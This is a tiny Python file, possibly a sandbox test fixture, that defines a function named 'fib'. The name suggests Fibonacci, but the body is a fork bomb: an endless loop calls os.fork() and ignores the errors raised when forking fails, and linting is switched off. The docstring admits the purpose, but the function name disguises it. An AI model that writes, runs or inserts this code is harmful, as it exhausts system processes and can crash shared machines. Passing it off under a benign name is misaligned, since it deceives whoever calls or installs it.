"""Forks until it cannot, in every call."""
# ruff: noqa

import os


def fib(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
